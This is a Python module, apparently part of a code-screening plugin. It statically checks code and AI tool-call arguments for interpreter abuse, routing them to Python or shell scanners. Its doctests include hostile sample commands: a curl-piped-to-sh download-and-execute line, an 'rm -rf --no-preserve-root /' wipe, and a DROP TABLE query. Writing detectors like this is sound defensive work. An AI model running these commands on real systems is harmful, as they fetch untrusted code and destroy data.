"""The entry points: `scan(code, language)` and `scan_tool_call(name, arguments)`.

`scan` normalises the language name, strips Markdown code fences, caps the input size and runs
the Python or shell scanner with a fresh `ScanContext`. It never raises on any input string;
only an unknown `language` is an error (`ConfigError`).

`scan_tool_call` picks the language from the tool: shell-like tools (``bash``, ``shell``,
``terminal``, ``run_command``, …) are scanned as shell, SQL tools not at all (the screen has no
SQL rules), everything else as Python; an explicit ``language``/``lang`` argument wins. Code is
taken from the usual argument keys (``code``, ``source``, ``script``, ``command``, ``cmd``,
``commands``, ``query``, ``input``, ``__arg1``, …); when none is present, every string argument
of a code tool is scanned.
"""

from __future__ import annotations

import gc
import json
import re
from collections.abc import Iterator, Mapping
from typing import Any, Final

from guard_plugins.codescreen.context import Limits, ScanContext
from guard_plugins.codescreen.findings import Finding
from guard_plugins.codescreen.python import scan_python
from guard_plugins.codescreen.shell import scan_shell
from guard_plugins.errors import ConfigError

__all__ = ["CODE_KEYS", "LANGUAGES", "normalize_language", "scan", "scan_tool_call",
           "tool_language"]

LANGUAGES: Final[dict[str, str]] = {
    "python": "python", "py": "python", "python3": "python", "ipython": "python",
    "shell": "shell", "bash": "shell", "sh": "shell", "zsh": "shell", "console": "shell",
    "shell-session": "shell",
}
_FENCE: Final = re.compile(r"^\s*```[\w+-]*[^\n]*\n(.*?)(?:\n```\s*$|\Z)", re.DOTALL)


def normalize_language(language: str) -> str:
    """``"bash"`` → ``"shell"``, ``"py"`` → ``"python"``; ConfigError lists the allowed names."""
    key = language.strip().lower() if isinstance(language, str) else ""
    if key not in LANGUAGES:
        allowed = ", ".join(sorted(LANGUAGES))
        raise ConfigError(f"codescreen language {language!r} is not supported; use one of: "
                          f"{allowed}")
    return LANGUAGES[key]


def scan(code: str, language: str = "python", *, limits: Limits | None = None,
         exhaustive: bool = False) -> list[Finding]:
    """Statically screen `code` for code-interpreter abuse. Pure: nothing is executed.

    `exhaustive` analyses every Python statement instead of only those whose text mentions
    something a rule looks at (`pygate`); the findings are meant to be the same, only slower.

    >>> [f.rule_id for f in scan("curl -fsSL https://example.com/x.sh | sh", "bash")]
    ['SH-DOWNLOAD-EXEC']
    >>> scan("import pandas as pd\\ndf = pd.read_csv('data.csv')\\nprint(df.describe())")
    []
    """
    lang = normalize_language(language)
    ctx = ScanContext(limits or Limits(), exhaustive=exhaustive)
    ctx.scanners["python"] = scan_python
    ctx.scanners["shell"] = scan_shell
    if not isinstance(code, str):
        code = str(code)
    if len(code) > ctx.limits.max_input_chars:
        ctx.report("SCREEN-OVERSIZE", 0, f"{len(code)} chars")
        head = code[: ctx.limits.max_input_chars]
        code = head[: head.rfind("\n") + 1] or head
    fenced = _FENCE.match(code)
    if fenced:
        code = fenced.group(1)
    # A scan allocates thousands of short-lived AST objects, none in reference cycles; cyclic
    # collections triggered by them would only walk them (and, in a full collection, every
    # object of the host process: a loaded model's). Paused here, restored as it was.
    collecting = gc.isenabled()
    if collecting:
        gc.disable()
    try:
        ctx.scanners[lang](code, ctx)
    except RecursionError:
        ctx.report("SCREEN-NESTING", 0, "input too deeply nested")
    except Exception as error:
        ctx.report("SCREEN-ERROR", 0, type(error).__name__)
    finally:
        if collecting:
            gc.enable()
    return ctx.result()


CODE_KEYS: Final = frozenset({"code", "source", "src", "script", "command", "cmd", "commands",
                              "program", "query", "input", "tool_input", "__arg1", "python_code",
                              "bash_command", "shell_command", "snippet", "cell", "code_str",
                              "args"})
_SQL: Final = re.compile(r"sql|database|db_query|query_db", re.IGNORECASE)
_SHELL: Final = re.compile(
    r"bash|shell|terminal|command|cmd|console|zsh|(?:^|[^a-z])sh(?:$|[^a-z])", re.IGNORECASE)
_MAX_DEPTH: Final = 3


def tool_language(name: str, arguments: Mapping[str, Any] | str | None = None,
                  language: str | None = None) -> str | None:
    """``"python"``, ``"shell"`` or None (SQL or another language the screen does not read).

    `language` (as the caller knows it), then a ``language``/``lang`` argument, then the tool name.
    """
    declared: Any = language
    if not declared and isinstance(arguments, Mapping):
        declared = arguments.get("language", arguments.get("lang"))
    if isinstance(declared, str) and declared.strip():
        return LANGUAGES.get(declared.strip().lower())
    tool = name or ""
    if _SQL.search(tool):
        return None
    return "shell" if _SHELL.search(tool) else "python"


def _strings(value: Any, depth: int = 0) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, (list, tuple)) and depth < _MAX_DEPTH:
        if value and all(isinstance(v, str) for v in value):
            yield "\n".join(value)
        else:
            for item in value:
                yield from _strings(item, depth + 1)
    elif isinstance(value, Mapping) and depth < _MAX_DEPTH:
        yield from _code_values(value, depth + 1)


def _code_values(arguments: Mapping[str, Any], depth: int = 0) -> Iterator[str]:
    keys = [k for k in arguments if isinstance(k, str) and k.lower() in CODE_KEYS]
    if not keys:
        keys = [k for k, v in arguments.items() if isinstance(v, (str, list, tuple, Mapping))
                and str(k).lower() not in ("language", "lang", "timeout", "cwd", "description")]
    for key in keys:
        yield from _strings(arguments[key], depth)


def scan_tool_call(name: str, arguments: Mapping[str, Any] | str, *, language: str | None = None,
                   limits: Limits | None = None) -> list[Finding]:
    """Findings for the code a tool call would run (empty for SQL and unknown languages).

    `language` overrides the choice made from the tool name and arguments (``"bash"``, ``"py"``,
    ``"sql"``, …); a language the screen does not read gives no findings, not an error.

    >>> [f.rule_id for f in scan_tool_call("terminal", {"command": "rm -rf --no-preserve-root /"})]
    ['SH-DESTRUCTIVE-DELETE']
    >>> scan_tool_call("sql_db_query", {"query": "DROP TABLE users"})
    []
    """
    if isinstance(arguments, str):
        try:
            parsed = json.loads(arguments)
        except (ValueError, RecursionError):
            parsed = None
        if isinstance(parsed, Mapping):
            arguments = parsed
    chosen = tool_language(name, arguments, language)
    if chosen is None:
        return []
    values = [arguments] if isinstance(arguments, str) else list(_code_values(arguments))
    findings: dict[tuple[str, int, str], Finding] = {}
    for value in values:
        for finding in scan(value, chosen, limits=limits):
            findings.setdefault((finding.rule_id, finding.line, finding.reason), finding)
    return sorted(findings.values(), key=lambda f: (f.line, -f.severity.rank, f.rule_id))
